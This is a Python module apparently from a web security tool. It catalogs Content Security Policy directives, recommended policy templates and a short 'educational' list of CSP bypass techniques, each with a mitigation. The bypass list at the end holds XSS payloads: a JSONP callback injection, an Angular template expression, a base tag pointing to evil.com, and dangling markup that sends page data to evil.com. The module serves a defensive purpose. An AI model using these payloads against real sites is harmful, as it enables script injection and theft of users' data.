"""Reference catalog of CSP directives, policy templates and bypasses.

``CSP_DIRECTIVES`` drives parser validation: names missing from it produce
an "unknown directive" warning, ``deprecated`` entries a deprecation
warning, and ``fetch`` entries have their source values checked.
"""

from __future__ import annotations

from xsspage.core.csp.models import BypassTechnique, CSPDirective, CSPTemplate

CATEGORIES: tuple[str, ...] = ("fetch", "document", "navigation", "reporting", "other")

# ---------------------------------------------------------------------------
# Directives
# ---------------------------------------------------------------------------

_DIRECTIVES: tuple[CSPDirective, ...] = (
    # Fetch directives
    CSPDirective(
        "default-src",
        "Serves as a fallback for other fetch directives. If a specific directive "
        "is not defined, the browser will use default-src.",
        "fetch",
        examples=("'self'", "'none'", "'self' https://trusted.com"),
        common_mistakes=(
            "Using 'unsafe-inline' or 'unsafe-eval' defeats XSS protection",
            "Overly permissive with wildcard (*) allows any source",
        ),
        recommendation="Start with 'self' and add specific trusted sources as needed",
    ),
    CSPDirective(
        "script-src",
        "Specifies valid sources for JavaScript. This is critical for XSS protection.",
        "fetch",
        examples=(
            "'self'",
            "'self' 'unsafe-inline'",
            "'self' https://cdn.example.com",
            "'nonce-{random}'",
            "'sha256-{hash}'",
        ),
        common_mistakes=(
            "'unsafe-inline' allows inline scripts, defeating XSS protection",
            "'unsafe-eval' allows eval() and similar functions",
            "Using 'strict-dynamic' without nonces/hashes",
        ),
        recommendation="Use nonces or hashes for inline scripts. "
                       "Avoid 'unsafe-inline' and 'unsafe-eval'",
        xss_impact="critical",
    ),
    CSPDirective(
        "style-src",
        "Specifies valid sources for stylesheets.",
        "fetch",
        examples=("'self'", "'self' 'unsafe-inline'", "'self' https://fonts.googleapis.com"),
        common_mistakes=("'unsafe-inline' allows inline styles which can be exploited",),
        recommendation="Use nonces or hashes for inline styles when possible",
        xss_impact="medium",
    ),
    CSPDirective(
        "img-src",
        "Specifies valid sources of images.",
        "fetch",
        examples=("'self'", "'self' data:", "'self' https://images.example.com"),
        common_mistakes=(
            "Forgetting data: URIs if using inline images",
            "Not restricting to HTTPS for external sources",
        ),
        recommendation="Include data: if using base64 images, restrict to HTTPS sources",
        xss_impact="low",
    ),
    CSPDirective(
        "font-src",
        "Specifies valid sources of fonts.",
        "fetch",
        examples=("'self'", "'self' https://fonts.gstatic.com", "data:"),
        recommendation="Include data: if using base64 fonts",
        xss_impact="none",
    ),
    CSPDirective(
        "connect-src",
        "Limits URLs which can be loaded using script interfaces (fetch, "
        "XMLHttpRequest, WebSocket, EventSource).",
        "fetch",
        examples=("'self'", "'self' https://api.example.com", "ws://localhost:*"),
        common_mistakes=(
            "Not including WebSocket protocols (ws://, wss://)",
            "Not including localhost for development",
        ),
        recommendation="Specify exact API endpoints, include ws:// or wss:// "
                       "if using WebSockets",
        xss_impact="medium",
    ),
    CSPDirective(
        "media-src",
        "Specifies valid sources for loading media using <audio> and <video> elements.",
        "fetch",
        examples=("'self'", "'self' https://media.example.com"),
        recommendation="Restrict to trusted media sources",
        xss_impact="low",
    ),
    CSPDirective(
        "object-src",
        "Specifies valid sources for <object>, <embed>, and <applet> elements.",
        "fetch",
        examples=("'none'", "'self'"),
        common_mistakes=("Not setting to 'none' when plugins aren't needed",),
        recommendation="Set to 'none' unless you need Flash or other plugins",
        xss_impact="high",
    ),
    CSPDirective(
        "frame-src",
        "Specifies valid sources for nested browsing contexts loading using "
        "elements like <frame> and <iframe>.",
        "fetch",
        examples=("'self'", "'self' https://trusted-iframe.com", "'none'"),
        common_mistakes=("Allowing untrusted iframe sources",),
        recommendation="Restrict to specific trusted domains, use 'none' if "
                       "iframes aren't needed",
        xss_impact="high",
    ),
    CSPDirective(
        "worker-src",
        "Specifies valid sources for Worker, SharedWorker, or ServiceWorker scripts.",
        "fetch",
        examples=("'self'", "blob:", "'self' blob:"),
        common_mistakes=("Forgetting blob: if using blob URLs for workers",),
        recommendation="Include blob: if creating workers from blob URLs",
        browser_support="modern",
        xss_impact="medium",
    ),
    CSPDirective(
        "manifest-src",
        "Specifies valid sources of application manifest files.",
        "fetch",
        examples=("'self'",),
        recommendation="Usually 'self' is sufficient",
        browser_support="modern",
        xss_impact="none",
    ),
    # Document directives
    CSPDirective(
        "base-uri",
        "Restricts the URLs which can be used in a <base> element.",
        "document",
        examples=("'self'", "'none'"),
        common_mistakes=("Not setting this directive, allowing base tag injection",),
        recommendation="Set to 'self' or 'none' to prevent base tag injection attacks",
        xss_impact="high",
    ),
    CSPDirective(
        "sandbox",
        "Enables a sandbox for the requested resource similar to the <iframe> "
        "sandbox attribute.",
        "document",
        examples=("", "allow-scripts", "allow-scripts allow-same-origin"),
        common_mistakes=(
            "Using allow-scripts and allow-same-origin together (defeats sandbox)",
        ),
        recommendation="Use carefully, understand each flag's implications",
        xss_impact="high",
    ),
    # Navigation directives
    CSPDirective(
        "form-action",
        "Restricts the URLs which can be used as the target of form submissions.",
        "navigation",
        examples=("'self'", "'self' https://form-processor.example.com"),
        common_mistakes=("Not restricting form actions, allowing form hijacking",),
        recommendation="Set to 'self' or specific trusted form processors",
        xss_impact="medium",
    ),
    CSPDirective(
        "frame-ancestors",
        "Specifies valid parents that may embed a page using <frame>, <iframe>, "
        "<object>, <embed>, or <applet>.",
        "navigation",
        examples=("'none'", "'self'", "'self' https://trusted.com"),
        recommendation="Use 'none' to prevent clickjacking, or specify trusted "
                       "parent domains",
        xss_impact="medium",
    ),
    # Reporting directives
    CSPDirective(
        "report-uri",
        "Instructs the browser to POST reports of policy violations to the "
        "specified URI (deprecated, use report-to).",
        "reporting",
        examples=("https://example.com/csp-report", "/csp-violation-report"),
        recommendation="Use report-to instead for modern browsers",
        deprecated=True,
    ),
    CSPDirective(
        "report-to",
        "Defines a reporting group for violation reports (requires Reporting API).",
        "reporting",
        examples=("csp-endpoint",),
        common_mistakes=("Not setting up the Report-To header properly",),
        recommendation="Preferred over report-uri for modern browsers",
        browser_support="modern",
    ),
    # Other directives
    CSPDirective(
        "upgrade-insecure-requests",
        "Instructs browsers to treat all insecure URLs (HTTP) as if they have "
        "been replaced with secure URLs (HTTPS).",
        "other",
        examples=("",),
        recommendation="Use when migrating to HTTPS to automatically upgrade requests",
        browser_support="modern",
        xss_impact="low",
    ),
    CSPDirective(
        "block-all-mixed-content",
        "Prevents loading any assets over HTTP when the page uses HTTPS.",
        "other",
        examples=("",),
        recommendation="Use to ensure all content is loaded over HTTPS",
        browser_support="modern",
        deprecated=True,
    ),
    CSPDirective(
        "trusted-types",
        "Enables Trusted Types, requiring that DOM sinks only accept typed "
        "values instead of strings.",
        "other",
        examples=("default", "myPolicy", "'allow-duplicates'"),
        recommendation="Advanced XSS protection, requires code changes to use",
        browser_support="modern",
        xss_impact="critical",
    ),
    CSPDirective(
        "require-trusted-types-for",
        "Requires Trusted Types for specific DOM sinks.",
        "other",
        examples=("'script'",),
        recommendation="Use with trusted-types directive for enhanced protection",
        browser_support="modern",
        xss_impact="critical",
    ),
)

CSP_DIRECTIVES: dict[str, CSPDirective] = {d.name: d for d in _DIRECTIVES}


def directives_by_category() -> dict[str, list[str]]:
    """Directive names grouped by category, in catalog order."""
    return {
        category: [d.name for d in _DIRECTIVES if d.category == category]
        for category in CATEGORIES
    }


# ---------------------------------------------------------------------------
# Policy templates
# ---------------------------------------------------------------------------

CSP_TEMPLATES: dict[str, CSPTemplate] = {
    "strict": CSPTemplate(
        "Strict (Recommended)",
        "Highly secure policy with nonce-based script loading",
        "default-src 'none'; script-src 'nonce-{random}'; style-src 'self'; "
        "img-src 'self' data:; font-src 'self'; connect-src 'self'; frame-src 'none'; "
        "base-uri 'self'; form-action 'self';",
        ("Maximum XSS protection", "Requires CSP-aware code", "No unsafe-inline/eval"),
        ("Requires nonce generation", "May break existing code", "More complex setup"),
    ),
    "moderate": CSPTemplate(
        "Moderate",
        "Balanced security with some inline scripts allowed via hashes",
        "default-src 'self'; script-src 'self' 'sha256-{hash}'; "
        "style-src 'self' 'unsafe-inline'; img-src 'self' data: https:; "
        "font-src 'self'; connect-src 'self'; base-uri 'self'; form-action 'self';",
        ("Good security", "Easier to implement", "Compatible with most code"),
        ("Inline styles allowed", "Less strict than nonce-based"),
    ),
    "permissive": CSPTemplate(
        "Permissive (Not Recommended)",
        "Minimal restrictions, mainly for legacy applications",
        "default-src 'self' 'unsafe-inline' 'unsafe-eval'; img-src * data:; "
        "font-src *; connect-src *;",
        ("Easy to implement", "Unlikely to break functionality"),
        ("Weak XSS protection", "unsafe-inline/eval allowed", "Not recommended"),
    ),
    "nextjs": CSPTemplate(
        "Next.js Production",
        "Optimized for Next.js static export",
        "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; "
        "img-src 'self' data: https:; font-src 'self'; connect-src 'self'; "
        "frame-src blob:; base-uri 'self'; form-action 'self';",
        ("Works with Next.js", "Allows blob iframes", "Production-ready"),
        ("Inline styles for Tailwind CSS",),
    ),
    "development": CSPTemplate(
        "Development",
        "Relaxed policy for local development",
        "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval'; "
        "style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; "
        "font-src 'self' data:; connect-src 'self' ws://localhost:* ws://127.0.0.1:*; "
        "frame-src blob:;",
        ("Supports HMR/hot reload", "Easy debugging", "WebSocket support"),
        ("Not for production", "Weak security"),
    ),
}

# ---------------------------------------------------------------------------
# Bypass techniques (educational)
# ---------------------------------------------------------------------------

BYPASS_TECHNIQUES: tuple[BypassTechnique, ...] = (
    BypassTechnique(
        "JSONP Endpoint Abuse",
        "If a whitelisted domain has a JSONP endpoint, it can be abused to "
        "execute arbitrary JavaScript",
        "script-src 'self' https://trusted.com -> "
        "https://trusted.com/jsonp?callback=alert(1)",
        "Avoid whitelisting entire domains, use specific script paths if possible",
    ),
    BypassTechnique(
        "Angular Template Injection",
        "If using Angular with unsafe-eval, template expressions can be abused",
        "script-src 'self' 'unsafe-eval' -> {{constructor.constructor('alert(1)')()}}",
        "Avoid unsafe-eval, use strict CSP with nonces",
    ),
    BypassTechnique(
        "Base Tag Injection",
        "Without base-uri restriction, <base> tag can redirect relative URLs",
        'No base-uri -> <base href="https://evil.com/">',
        "Set base-uri 'self' or 'none'",
    ),
    BypassTechnique(
        "Dangling Markup",
        "Injecting unclosed tags to capture sensitive data via external resources",
        '<img src="https://evil.com/log?data=',
        "Use strict CSP, validate and sanitize all inputs",
    ),
)
